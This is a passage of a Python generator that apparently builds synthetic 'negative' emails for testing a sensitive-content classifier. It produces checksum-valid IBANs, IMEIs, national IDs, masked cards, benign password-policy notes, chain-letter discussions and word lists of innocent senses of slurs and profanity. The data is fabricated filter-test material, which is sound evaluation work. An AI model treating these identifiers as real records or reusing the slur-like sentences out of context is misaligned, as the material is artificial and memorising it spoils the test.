        n=grp(num, 4, r.choice([" ", "", "-"])), k=r.randint(1000, 60000), d=r.randint(1, 28), m=r.choice(MONTHS))
    return neg_spec("neg_luhn_valid_no_iin", frm, to, r.choice(["Reference", "Consignment", "Meter reading", "Case update"]),
                    compose(r, frm, to, core))


def fam_neg_phone(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    core = r.choice([
        "Best numbers to reach the team while the office is closed:\n\nReception: {p1}\nOut of hours: {p2}\nFax: {p3}",
        "Dial-in for Thursday: {p1}, conference ID {cid}#. Backup line {p2}.",
        "The engineer will call from {p1} between 8 and 12. If you miss him, ring {p2} and quote job {job}.",
        "New switchboard number from Monday is {p1}; the old {p2} will redirect for six months.",
        "Contacts for the {city} visit: hotel {p1}, taxi firm {p2}, site security {p3}.",
    ]).format(p1=phone(r), p2=phone(r), p3=phone(r), cid="%03d %03d %04d" % (r.randint(100, 999), r.randint(100, 999), r.randint(0, 9999)),
              job="J%d" % r.randint(100000, 999999), city=r.choice(CITIES))
    return neg_spec("neg_phone_numbers", frm, to, r.choice(["Contact numbers", "Dial-in details", "Engineer visit", "New switchboard",
                                                              "Visit contacts"]), compose(r, frm, to, core))


def fam_neg_tracking(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    t = r.choice([
        lambda: "UPS 1Z%s%s" % (rid(r, 6, string.ascii_uppercase + string.digits), "".join(r.choice(string.digits) for _ in range(10))),
        lambda: "FedEx %s" % grp("".join(r.choice(string.digits) for _ in range(12))),
        lambda: "DHL Express waybill %s" % "".join(r.choice(string.digits) for _ in range(10)),
        lambda: "Royal Mail %s%s%sGB" % (rid(r, 2, string.ascii_uppercase), "".join(r.choice(string.digits) for _ in range(9)), ""),
        lambda: "USPS %s" % grp("9400" + "".join(r.choice(string.digits) for _ in range(18))),
        lambda: "DPD %s" % "".join(r.choice(string.digits) for _ in range(14)),
    ])()
    core = r.choice(["Your parcel is on its way. Tracking: {t}. Estimated delivery {d} {m}.",
                     "Samples went out today with {t}; please let me know when they land.",
                     "The replacement unit ships tomorrow, {t}. The faulty one can go back in the same box."]).format(
        t=t, d=r.randint(1, 28), m=r.choice(MONTHS))
    return neg_spec("neg_tracking_numbers", frm, to, r.choice(["Shipping update", "Samples dispatched", "Replacement unit"]),
                    compose(r, frm, to, core))


def iban(r, cc):
    if cc == "GB":
        bban = rid(r, 4, string.ascii_uppercase) + "".join(r.choice(string.digits) for _ in range(14))
    elif cc == "DE":
        bban = "".join(r.choice(string.digits) for _ in range(18))
    elif cc == "NL":
        bban = rid(r, 4, string.ascii_uppercase) + "".join(r.choice(string.digits) for _ in range(10))
    else:  # FR
        bban = "".join(r.choice(string.digits) for _ in range(10)) + rid(r, 11, string.ascii_uppercase + string.digits) + "%02d" % r.randint(0, 99)
    num = "".join(str(int(c, 36)) for c in bban + cc + "00")
    chk = 98 - int(num) % 97
    return grp(cc + "%02d" % chk + bban)


def fam_neg_iban(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    cc = r.choice(["GB", "DE", "NL", "FR"])
    core = r.choice([
        "Our bank details have changed. Please pay future invoices to:\n\nAccount name: {org}\nIBAN: {iban}\nBIC: {bic}\n\n"
        "Please call us on a known number to confirm before updating.",
        "For the conference fee, bank transfer only: IBAN {iban}, BIC/SWIFT {bic}. Reference: your surname.",
        "Sort code {sc}, account number {acc}. For international payments use IBAN {iban}.",
    ]).format(org=frm["org"] or "Harbourline Ltd", iban=iban(r, cc), bic=rid(r, 4, string.ascii_uppercase) + cc + rid(r, 2, string.ascii_uppercase + "0123456789"),
              sc="%02d-%02d-%02d" % (r.randint(10, 99), r.randint(0, 99), r.randint(0, 99)), acc="%08d" % r.randint(10000000, 99999999))
    return neg_spec("neg_iban_bank_details", frm, to, r.choice(["Bank details", "Payment instructions", "Conference fee"]),
                    compose(r, frm, to, core))


def isbn13(r):
    b = r.choice(["978", "979"]) + "".join(r.choice(string.digits) for _ in range(9))
    s = sum(int(c) * (1 if i % 2 == 0 else 3) for i, c in enumerate(b))
    return b + str((10 - s % 10) % 10)


def fam_neg_isbn(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    books = [("The Pragmatic Programmer", "Hunt & Thomas"), ("Thinking, Fast and Slow", "Kahneman"),
             ("Data and Goliath", "Schneier"), ("The Checklist Manifesto", "Gawande"), ("Bleak House", "Dickens"),
             ("Team Topologies", "Skelton & Pais")]
    lines = []
    for t, a in r.sample(books, r.randint(2, 4)):
        i = isbn13(r)
        f = r.choice([lambda x: x, lambda x: "%s-%s-%s-%s-%s" % (x[:3], x[3], x[4:8], x[8:12], x[12]),
                      lambda x: "%s %s" % (x[:3], x[3:])])
        lines.append("- %s (%s), ISBN %s, qty %d" % (t, a, f(i), r.randint(1, 12)))
    core = "Library order for the reading group:\n\n" + "\n".join(lines) + "\n\nPlease charge it to cost centre %d." % r.randint(1000, 9999)
    return neg_spec("neg_isbn", frm, to, "Book order", compose(r, frm, to, core))


def fam_neg_ids(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    u = guid(r)
    ts = rdate(r).astimezone(datetime.timezone.utc)
    sha = "".join(r.choice("0123456789abcdef") for _ in range(40))
    core = r.choice([
        "The failed job was run {u}, started {iso} and exited after {k}s. Commit {sha} is the last good build.",
        "Incident INC{inc} opened {iso}. Correlation id {u}; epoch ms {ms}. No customer impact.",
        "Request {u} hit the gateway at {ts} UTC, trace id {tr}. Logs attached in the ticket.",
        "Container {c} restarted at {ts}; image digest sha256:{d64}.",
    ]).format(u=u, iso=ts.strftime("%Y-%m-%dT%H:%M:%SZ"), k=r.randint(3, 900), sha=sha, inc="%07d" % r.randint(0, 9999999),
              ms=int(ts.timestamp() * 1000) + r.randint(0, 999), ts=ts.strftime("%Y-%m-%d %H:%M:%S"),
              tr="".join(r.choice("0123456789abcdef") for _ in range(32)), c=sha[:12],
              d64="".join(r.choice("0123456789abcdef") for _ in range(64)))
    return neg_spec("neg_ids_timestamps", frm, to, r.choice(["Failed job", "Incident summary", "Gateway errors", "Container restarts"]),
                    compose(r, frm, to, core))


def luhn_number(r, prefix, L):
    body = prefix + "".join(r.choice(string.digits) for _ in range(L - len(prefix) - 1))
    return body + luhn_digit(body)


def fam_neg_imei(ctx):
    """IMEIs (15 digits, Luhn) in phone and SIM-card mail; some TACs fall in card ranges on purpose."""
    r = ctx.rng
    frm, to = ctx.pair()
    imei = luhn_number(r, r.choice(["35", "86", "01", "99", "30", "50", "52", "36", "60"]), 15)
    shown = r.choice([imei, "%s %s %s %s" % (imei[:2], imei[2:8], imei[8:14], imei[14]),
                      "%s-%s-%s-%s" % (imei[:2], imei[2:8], imei[8:14], imei[14])])
    core = r.choice([
        "The handset was reported lost. IMEI: {i}. Please block it and send a replacement SIM card to the {city} office.",
        "IMEI number is {i}; the phone is still under warranty until {d} {m}.",
        "Asset register updated: iPhone for {who}, IMEI {i}, SIM card ending {s}.",
        "Could you unlock this phone for travel? Its IMEI is {i} and the contract ends {mm}/{yy}.",
        "Dual-SIM device, IMEI1 {i}. The old SIM card can be recycled.",
    ]).format(i=shown, city=r.choice(CITIES), d=r.randint(1, 28), m=r.choice(MONTHS), who=r.choice(FIRST),
              s=r.randint(1000, 9999), mm="%02d" % r.randint(1, 12), yy=r.randint(26, 29))
    return neg_spec("neg_imei", frm, to, r.choice(["Lost phone", "Warranty", "Asset register", "Unlock request"]),
                    compose(r, frm, to, core), decoys=sorted(card_numbers_in(core)))


def siret(r, first):
    siren = luhn_number(r, first, 9)
    while True:
        nic = "".join(r.choice(string.digits) for _ in range(5))
        if luhn_ok(siren + nic):
            return siren + nic


def fam_neg_company(ctx):
    """Company and tax numbers: SIRET (14 digits, Luhn), OGRN (13), CNPJ (14), some in card ranges."""
    r = ctx.rng
    frm, to = ctx.pair()
    s14 = siret(r, r.choice(["3", "4", "5", "6", "7", "8"]))
    shown = r.choice(["%s %s %s %s" % (s14[:3], s14[3:6], s14[6:9], s14[9:]), s14])
    ogrn = luhn_number(r, r.choice(["1", "5"]), 13)
    cnpj = "".join(r.choice(string.digits) for _ in range(8)) + "0001" + "%02d" % r.randint(0, 99)
    core = r.choice([
        "Our supplier details for the vendor form:\n\nSIRET : {s}\nTVA : FR{t}{siren}\nRCS {city}",
        "Please add the company registration number {s} to the invoice header, the customer needs it.",
        "Registered office in {city}, SIRET {s}. We accept payment by bank transfer or credit card.",
        "The Russian distributor's OGRN is {o}; legal want it in the contract annex.",
        "CNPJ {c1}.{c2}.{c3}/{c4}-{c5} is the Brazilian entity; use it on the pro-forma.",
    ]).format(s=shown, t="%02d" % r.randint(10, 99), siren=s14[:9], city=r.choice(["Lyon", "Paris", "Nantes"]),
              o=ogrn, c1=cnpj[:2], c2=cnpj[2:5], c3=cnpj[5:8], c4=cnpj[8:12], c5=cnpj[12:])
    return neg_spec("neg_company_numbers", frm, to, r.choice(["Vendor form", "Invoice header", "Contract annex",
                                                              "Supplier details"]),
                    compose(r, frm, to, core), decoys=sorted(card_numbers_in(core)))


def sa_id(r):
    dob = "%02d%02d%02d" % (r.choice([45, 48, 52, 57, 63, 66, 69]), r.randint(1, 12), r.randint(1, 28))
    return luhn_number(r, dob + "%04d" % r.randint(0, 9999) + r.choice("01") + "8", 13)


def cn_id(r):
    w = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    while True:
        d = r.choice(["350102", "360103", "500101", "620102", "650102"]) + "%04d%02d%02d" % (
            r.randint(1950, 2004), r.randint(1, 12), r.randint(1, 28)) + "%03d" % r.randint(0, 999)
        c = (12 - sum(a * int(b) for a, b in zip(w, d)) % 11) % 11
        if c < 10:
            return d + str(c)


def fam_neg_national_id(ctx):
    """National ID numbers that share a card's length: South African (13, Luhn) and Chinese (18)."""
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    i = r.choice([sa_id, cn_id])(r)
    core = r.choice([
        "For the background check I need {who}'s ID number: {i}. Date of birth is in the HR file.",
        "New starter paperwork: name {who}, national ID {i}, start date {d} {m}.",
        "Her identity number ({i}) was typed wrongly on the visa letter; please reissue it.",
        "Passport not available, so the hotel took the ID card instead: {i}.",
    ]).format(who=r.choice(FIRST) + " " + r.choice(LAST), i=i, d=r.randint(1, 28), m=r.choice(MONTHS))
    return neg_spec("neg_national_id", frm, to, r.choice(["Background check", "New starter", "Visa letter", "Hotel"]),
                    compose(r, frm, to, core), decoys=sorted(card_numbers_in(core)))


def fam_neg_masked(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    b, d = new_pan(r)
    core = r.choice([
        "We've refunded {amt} to your card ending {l4}. It may take 3-5 working days to appear.",
        "Payment of {amt} taken from {brand} **** **** **** {l4}. Thank you for your order.",
        "The transaction on card {f6}******{l4} was declined by the issuer; please ask the customer for another card.",
        "Card on file: XXXX-XXXX-XXXX-{l4} (exp {mm}/{yy}). To update it, use the billing page.",
    ]).format(amt=money(r), l4=d[-4:], brand=b, f6=d[:6], mm="%02d" % r.randint(1, 12), yy=r.randint(25, 30))
    return neg_spec("neg_masked_card", frm, to, r.choice(["Refund processed", "Payment receipt", "Declined transaction", "Billing"]),
                    compose(r, frm, to, core))


NEG_CONF = [
    "Of course, I'll keep this confidential until the announcement goes out.",
    "Legal want the confidentiality agreement signed before we share the spec. Could you send it to their counsel?",
    "We went through the NDA this morning; their side wants the confidentiality clause to be mutual.",
    "Just so you know, anything you discuss with the employee assistance counsellor stays confidential.",
    "The staff survey is anonymous and responses are handled confidentially by the external provider.",
    "Patient confidentiality training is mandatory for new starters this quarter; the slots are on the intranet.",
    "Thanks for telling me about your situation. I'll treat it in confidence and won't mention it to the team.",
    "The workshop covers how trade secrets and confidential information are protected under the new directive.",
    "Access to level 3 is restricted during the refurbishment, so please use the east stairs.",
    "Your restricted stock units vest quarterly; the schedule is in the benefits portal.",
    "We placed a classified ad in the local paper for the warehouse role.",
    "It's a proprietary file format, so we'll need their viewer to open the drawings.",
    "The internal audit team will be on site next week; they may ask for the purchase ledger.",
    "Could you mark the envelope 'Private – addressee only' when you post the originals?",
    "The declassified files from the 1970s are on display at the archive until June.",
    "I appreciate you sharing that in confidence; it helps me understand the delay.",
]


def fam_neg_conf_prose(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    core = " ".join(r.sample(NEG_CONF, r.randint(1, 2)))
    return neg_spec("neg_confidential_prose", frm, to, r.choice(["Re: next steps", "NDA", "Survey", "Refurbishment", "Quick note",
                                                                   "Your situation", "Drawings"]), compose(r, frm, to, core))


def fam_neg_footer(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=True)
    core = fill(r, 2)
    text = compose(r, frm, to, core, footer_p=0)
    text = text.rstrip("\n") + "\n\n" + footer(r, frm) + "\n"
    if r.random() < 0.4:
        text = text.rstrip("\n") + "\n\n" + footer(r, frm) + "\n"
    return neg_spec("neg_legal_footer", frm, to, r.choice(["Meeting notes", "Catch up", "Schedule", "Follow-up", "Next week"]), text)


def fam_neg_public_label(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    core = fill(r, 2)
    k = r.random()
    if k < 0.5:
        sp = neg_spec("neg_msip_public_label", frm, to, r.choice(["Newsletter draft", "Press release", "Event listing"]),
                      compose(r, frm, to, core), extra_headers=[msip_header(r, r.choice(["General", "Public", "Non-Business"]))])
    else:
        mark = r.choice(["Classification: Public", "Classification: PUBLIC", "Sensitivity: General", "Label: Public"])
        sp = neg_spec("neg_public_marking", frm, to, r.choice(["Newsletter draft", "Press release", "Event listing"]),
                      mark + "\n\n" + compose(r, frm, to, core))
    return sp


SCUNTHORPE = [
    "The {city} depot is moving to the industrial estate near Scunthorpe in the spring.",
    "The risk assessment for the Essex site is due on Friday.",
    "We've booked the cocktail reception for the launch at the Sussex venue.",
    "Middlesex University have asked for the analysis by the end of the month.",
    "Did you see the Dickens adaptation? The production design was classic.",
    "The shiitake risotto at the team lunch was excellent.",
    "My therapist recommended a few books on managing workload.",
    "The peacock at the country house kept interrupting the photographer.",
    "Flight simulator sessions include two hours in the cockpit with an instructor.",
    "Run the shell script on the build box before you merge.",
    "Hello and welcome to the new starters in the Cockermouth branch!",
    "The Penistone office has a new meeting room booking system.",
    "Please send the grapefruit juice order to the Babcock building.",
    "Arsenal are playing at home, so leave early if you're driving.",
    "The cumulative figures for Cumbria are in the second tab.",
    "Our partner in Coon Rapids, Minnesota, will join the call at 4pm Central.",
    "The penetration testing report for the web portal is scheduled for next quarter.",
    "Sextant Consulting sent over their proposal for the Wessex region.",
    "Matsushita's engineering team confirmed the spec for the new buttons.",
    "The Niger Delta project update is on the agenda for Tuesday.",
    "Hancock and Dickinson are both on leave, so the pass-through approvals go to me.",
    "The Clitheroe and Titchfield sites will share a shift pattern from May.",
    "Please assess whether the class action against the supplier affects us.",
    "The documentary about Hell's Kitchen in New York was fascinating.",
    "We'll need to execute the contract and kill the old purchase order.",
    "I'm slammed this week but happy to review the shitake-free menu next week, ha.",
    "The sea eagle and the blue tit were the highlights of the nature reserve walk.",
    "The butterfly garden volunteers meet on Saturdays.",
]


def fam_neg_scunthorpe(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    core = " ".join(s.format(city=r.choice(CITIES)) for s in r.sample(SCUNTHORPE, r.randint(2, 3)))
    return neg_spec("neg_scunthorpe", frm, to, r.choice(["Updates", "Site news", "Friday notes", "Odds and ends", "This week"]),
                    compose(r, frm, to, core))


NEG_FWD = [
    "Please forward this to the team so everyone has the new rota before Monday.",
    "Feel free to pass this along to anyone who might be interested in the analyst role.",
    "Good luck with the presentation tomorrow, you'll be great!",
    "Could you forward the agenda to the external speakers? I don't have their addresses.",
    "Please sign the leaving card for Maria; it's at reception, just add your name and pass it on to the next desk.",
    "Chain of custody forms must accompany every sample box; don't break the seal before the lab receives it.",
    "This is not a drill: the fire alarm test moved to 11am, please evacuate when it sounds.",
    "Share this with your network if you know anyone looking for a graduate placement.",
    "Best of luck with the move, and send us a photo of the new office!",
    "Please circulate to all ward managers.",
]


HAR_INNOCENT = [
    "We rebuilt the tranny on the delivery pickup; the tranny fluid was burnt.",
    "Traditional faggots and mushy peas are on the canteen menu on Thursday.",
    "He has gone out for a fag break, back in ten minutes.",
    "The meeting rooms were spic and span after the contractors left.",
    "That clause is the chink in the armour of their offer.",
    "Our distributor in Coon Rapids has confirmed the order.",
    "The museum tour covers Homo sapiens and Homo erectus.",
    "Our champion bitch whelped seven puppies last night and the litter is thriving.",
    "The garden team needs a new hoe and a rake for the allotment.",
    "The walk ends on Plymouth Hoe, where the coach will pick us up.",
    "The ignition timing was retarded by two degrees after the service.",
    "The clinic specialises in spastic paraplegia and other movement disorders.",
    "Please put the bags in the white trash cans by the loading bay.",
    "The choir sings of the ox and the ass in the stable at the carol service.",
    "Stop bitching about the rota, it's the same for everyone. Only kidding!",
    "He was rather niggardly with the budget, but the niggle is minor.",
    "After the walk along Offa's Dyke we found a honky-tonk with live music.",
    "The pussy willow by the entrance is in flower.",
    "Matsushita and the Middlesex analysis team signed off the Sussex assessment.",
    "The Fukuoka office and our agent on Fuk Wing Street both confirmed the shipment.",
    "Dick from procurement says the classic cocktail order is fine; thank you Dick.",
    "The Shiite community centre has asked about the Wankel engine display.",
]


def fam_neg_innocent_sense(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    core = " ".join(r.sample(HAR_INNOCENT, r.randint(1, 2)))
    return neg_spec("neg_innocent_sense", frm, to, r.choice(["Site news", "Friday notes", "Workshop", "Menu", "Odds and ends"]),
                    compose(r, frm, to, core))


def fam_neg_forward(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    core = " ".join(r.sample(NEG_FWD, r.randint(1, 2))) + " " + fill(r, 1)
    return neg_spec("neg_forward_request", frm, to, r.choice(["New rota", "Vacancy", "Agenda", "Leaving card", "Fire alarm",
                                                                "Placement", "Good luck!"]), compose(r, frm, to, core))


# Texts that only talk about chain letters and hoaxes: they quote the forms above.
NEG_CHAIN = [
    "That virus warning is a hoax, I'm afraid. There is no e-mail called \"{hoax}\" that wipes your hard disk, "
    "and {big} never said there was. Please don't forward it.",
    "Our e-mail policy asks staff not to forward chain letters, petitions or virus warnings. If a message asks "
    "you to send it to everyone in your address book, delete it or report it to the service desk.",
    "A chain e-mail claiming that {big} will pay ${per} for every person you forward it to is going round "
    "again. It is a well-known hoax and nobody is paying anyone.",
    "Thanks for the warning, but it turns out the story about the perfume samples in the car park is an urban "
    "legend. No need to pass it on to all the women you know!",
    "For the newsletter: how to spot a hoax. It asks you to send it to everyone you know, it says a big company "
    "confirmed it, and it claims a charity donates money each time it is forwarded. Those are the signs.",
    "Re the sick-girl appeal: the charity has confirmed that it does not donate anything per e-mail, so please "
    "do not forward it.",
]


def fam_neg_chain_talk(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    core = r.choice(NEG_CHAIN).format(hoax=r.choice(HOAX), big=r.choice(HOAX_BIG), per=r.choice([5, 245]))
    return neg_spec("neg_chain_talk", frm, to, r.choice(["Re: FW: virus alert!!", "E-mail policy", "Re: Fw: this is real",
                                                          "Newsletter item", "Re: FW: Ladies be careful", "Hoaxes"]),
                    compose(r, frm, to, core))


# Ordinary requests and notes that share words with chain letters and markings.
NEG_FWD_MORE = [
    "If you agree with the proposed rota, please forward it to your shift leads by Thursday.",
    "The open day is on Saturday; feel free to tell your friends and family about it.",
    "Please send the completed form back to me if you are joining the trip.",
    "Tickets are £12 per person. Please share the details with all your friends at the club.",
    "The survey only takes a minute. Please send it to everyone in your team before Friday.",
]
NEG_CONF_MORE = [
    "The guidance says TLP:GREEN reports can be shared with partners but not posted publicly.",
    "The pool cars are for official use only, so please don't use them for the school run.",
    "Could you ask legal whether attorney-client privilege covers our chats with the outside auditors?",
    "The flyers are not for distribution until the printer fixes the date on the back.",
    "The CUI awareness course is now on the learning portal.",
]
PRIV_FOOTER = ("This e-mail may contain privileged and confidential information and is intended only for the named "
               "recipient. If you are not the intended recipient, please notify the sender and delete it.")


def fam_neg_forward_more(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    core = " ".join(r.sample(NEG_FWD_MORE, r.randint(1, 2))) + " " + fill(r, 1)
    return neg_spec("neg_forward_request_more", frm, to, r.choice(["Rota", "Open day", "Trip", "Club night", "Survey"]),
                    compose(r, frm, to, core))


def fam_neg_conf_more(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    core = " ".join(r.sample(NEG_CONF_MORE, r.randint(1, 2)))
    text = compose(r, frm, to, core, footer_p=0).rstrip("\n") + "\n\n" + PRIV_FOOTER + "\n"
    return neg_spec("neg_marking_words", frm, to, r.choice(["Re: sharing", "Pool cars", "Question", "Flyers", "Training"]),
                    text)


NEG_PW = [
    "Reminder: from 1 May, passwords must be at least 14 characters long and include a number and a symbol. You'll be "
    "prompted to change yours at your next sign-in.",
    "Your network password will expire in 5 days. To change it, press Ctrl+Alt+Del and choose 'Change a password'.",
    "Username: {u}\nPassword: <your network password>\n\nThe portal uses single sign-on, so it's the same as your laptop.",
    "Login: {u}\nPassword: ********\n\n(I've sent the actual password to your phone.)",
    "I've sent the password for the spreadsheet separately by text message.",
    "The Wi-Fi password is on the whiteboard in the kitchen.",
    "Please never send passwords by email. Use the share feature in the password manager instead.",
    "password: [redacted]\n\nSee the ticket for how to request access.",
    "The reset link is valid for 24 hours: https://sso.{dom}/reset. If it expires, request a new one.",
    "Set DB_PASSWORD in your local .env file and don't commit it. The CI pipeline reads it from the vault.",
    "Your PIN will arrive separately by post within 5 working days.",
    "Passphrases should be four or more random words; avoid names, dates and anything on social media.",
    "We hash passwords with bcrypt (cost 12) and never store them in plain text.",
    "Forgotten your PIN? Call the card services line and they'll send a PIN reminder.",
    "MFA is now required for all admin accounts; the one-time codes come from the authenticator app.",
    "The password field on the signup form should show an error if it's shorter than 12 characters.",
]


def fam_neg_password_policy(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    core = "\n\n".join(s.format(u=r_user(to), dom=frm["dom"]) for s in r.sample(NEG_PW, r.randint(1, 2)))
    return neg_spec("neg_password_policy", frm, to, r.choice(["Password policy", "Account access", "Portal login", "Security reminder",
                                                                "Re: access", "Sign-up form"]), compose(r, frm, to, core))


NEG_TECH = [
    "Config for the staging service:\n\n  database:\n    host: db.staging.internal\n    user: app\n    password: ${{DB_PASSWORD}}\n",
    "api_key: YOUR_API_KEY_HERE\napi_secret: <paste from the vendor portal>\n",
    "export STRIPE_KEY=\"$(vault kv get -field=key secret/payments/stripe)\"",
    "Here's my public key for the repo access:\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{k43} {u}@laptop",
    "The server certificate, in case the chain is incomplete on your side:\n\n-----BEGIN CERTIFICATE-----\n{cert}\n-----END CERTIFICATE-----",
    "Public key for verifying the webhook signatures:\n\n-----BEGIN PUBLIC KEY-----\n{pub}\n-----END PUBLIC KEY-----",
    "password = os.environ[\"SMTP_PASSWORD\"]\ntoken = settings.GITHUB_TOKEN  # injected at deploy time",
    "The AWS access key for the vendor will be issued through the IAM request form, not by email.",
]


def fam_neg_tech(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)

    def b64lines(n, w=64):
        s = base64.b64encode(bytes(r.getrandbits(8) for _ in range(n))).decode()
        return "\n".join(s[i:i + w] for i in range(0, len(s), w))
    core = r.choice(NEG_TECH).format(k43=rid(r, 43, string.ascii_letters + string.digits + "+/"), u=r_user(frm),
                                     cert="MIID" + b64lines(700)[4:], pub="MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA" + b64lines(250)[44:])
    return neg_spec("neg_tech_placeholders", frm, to, r.choice(["staging config", "repo access", "webhook verification", "cert chain"]),
                    compose(r, frm, to, core))


NEG_BLUNT = [
    "This report is unacceptable. The numbers don't reconcile and half the sections are missing. I need a corrected "
    "version by Friday.",
    "Frankly, this is the worst quarter we've had in five years, and the plan you sent doesn't address why.",
    "I'm disappointed. The client spotted three errors in the deck we sent, which is not the standard I expect.",
    "If the timesheets are late again this month I will have to raise it with your line manager.",
    "The presentation was poorly structured and ran twenty minutes over. Please cut it down before the board sees it.",
    "That decision was a mistake, and I said so at the time. Let's not repeat it on the next contract.",
    "Your response to the customer was too curt. Please apologise and offer a call.",
    "I don't agree with your assessment at all; the data simply doesn't support it.",
]


def fam_neg_blunt(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    core = " ".join(r.sample(NEG_BLUNT, r.randint(1, 2)))
    return neg_spec("neg_blunt_criticism", frm, to, r.choice(["Report", "Q3 results", "Client deck", "Timesheets", "Board presentation",
                                                                "Feedback"]), compose(r, frm, to, core, filler=False))


NEG_QUOTE = [
    "For the book club: in chapter 12 the villain tells her 'I know where you live', which is the turning point of the "
    "whole novel. Worth discussing whether the ending earns it.",
    "Reminder for the harassment awareness session: examples of unacceptable behaviour include comments about someone's "
    "body, unwanted requests for photos, and threats. Report anything like that to HR in confidence.",
    "The court report quoted the defendant as shouting abuse at the officers; the full judgment is on the council website.",
    "Film night on Friday is Die Hard, then Kill Bill if people are still awake.",
    "The training module explains why slurs and offensive nicknames count as harassment even when meant as a joke.",
    "Our moderation team removed {k} abusive comments from the community forum last month, up from {k2} in the previous period.",
    "I could murder a coffee after that meeting. Anyone want one?",
]


def fam_neg_quote(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    core = r.choice(NEG_QUOTE).format(k=r.randint(20, 300), k2=r.randint(10, 200))
    return neg_spec("neg_fiction_news_training", frm, to, r.choice(["Book club", "Training reminder", "Court report", "Film night",
                                                                      "Moderation stats", "coffee"]), compose(r, frm, to, core))


def make_png(r, w=16, h=16):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    c1, c2 = [r.randrange(256) for _ in range(3)], [r.randrange(256) for _ in range(3)]
    raw = b"".join(b"\0" + b"".join(bytes(c1 if (x // 4 + y // 4) % 2 else c2) for x in range(w)) for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


GIF = base64.b64decode("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==")


def make_ics(r, org, frm):
    d = rdate(r).astimezone(datetime.timezone.utc)
    st = d.strftime("%Y%m%dT%H%M%SZ")
    en = (d + datetime.timedelta(hours=1)).strftime("%Y%m%dT%H%M%SZ")
    return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN\r\nMETHOD:REQUEST\r\n"
            "BEGIN:VEVENT\r\nUID:%s\r\nDTSTAMP:%s\r\nDTSTART:%s\r\nDTEND:%s\r\nSUMMARY:Project review\r\n"
            "LOCATION:Room 2.14\r\nORGANIZER;CN=%s:mailto:%s\r\nDESCRIPTION:Quarterly project review. Agenda to follow.\r\n"
            "END:VEVENT\r\nEND:VCALENDAR\r\n" % (guid(r), st, st, en, fold_ascii(frm["name"]), frm["addr"])).encode()


def make_csv(r):
    rows = ["region,month,orders,revenue_gbp"]
    for reg in r.sample(["North", "South", "East", "West", "Scotland", "Wales"], 4):
        for m in r.sample(MONTHS, 3):
            rows.append("%s,%s,%d,%d.%02d" % (reg, m, r.randint(10, 900), r.randint(1000, 90000), r.randint(0, 99)))
    return ("\r\n".join(rows) + "\r\n").encode()


def fam_neg_attach(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    k = r.randrange(6)
    if k == 0:
        a = {"filename": r.choice(["logo.png", "chart.png", "screenshot.png"]), "ctype": "image/png", "data": make_png(r)}
        body, subj = "Screenshot of the error attached.", "Screenshot"
    elif k == 1:
        a = {"filename": "spacer.gif", "ctype": "image/gif", "data": GIF, "disposition": "inline", "cid": "img%s@%s" % (rid(r, 6), frm["dom"])}
        body, subj = "Newsletter template below, the spacer image is the one marketing asked for.", "Newsletter template"
    elif k == 2:
        a = {"filename": "sales_by_region.csv", "ctype": "text/csv", "data": make_csv(r), "cte": r.choice(["base64", "7bit", "quoted-printable"]),
             "charset": "us-ascii"}
        body, subj = "Sales by region attached as CSV, as requested.", "Sales figures"
    elif k == 3:
        a = {"filename": "invite.ics", "ctype": "text/calendar; method=REQUEST", "data": make_ics(r, frm["org"], frm), "cte": r.choice(["base64", "7bit"]),
             "charset": "utf-8"}
        body, subj = "Invite attached for the quarterly review.", "Project review"
    elif k == 4:
        a = {"filename": "notes.txt", "ctype": "text/plain", "data": ("Action items\r\n- %s\r\n- %s\r\n" % (fill(r, 1), fill(r, 1))).encode(),
             "cte": r.choice(["7bit", "base64"]), "charset": "utf-8"}
        body, subj = "Notes from today attached.", "Notes"
    else:
        a = {"filename": "monthly_pack.zip", "ctype": "application/zip",
             "data": zip_bytes([("sales_by_region.csv", make_csv(r)), ("chart.png", make_png(r)), ("README.txt", b"Figures for the month.\r\n")])}
        body, subj = "Monthly pack zipped up as it's a few files.", "Monthly pack"
    a["data"] = a["data"]
    return neg_spec("neg_benign_attachment", frm, to, subj, compose(r, frm, to, body), attachments=[a])


def fam_neg_general(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    core = r.choice([
        "Agenda for {d} {m}:\n1. Budget update ({amt})\n2. Recruitment\n3. Office move, {k} desks on level 2\n4. AOB",
        "Minutes: attendance {k}; next meeting {d} {m} at 10:30; actions assigned to {a} and {b}.",
        "Travel for the {city} trip: train 09:42 from platform 4, arriving 12:17. Hotel check-in from 15:00, room rate {amt}.",
        "Quarterly numbers: revenue {amt}k, orders {k}, returns {k2}. Net promoter score {nps}.",
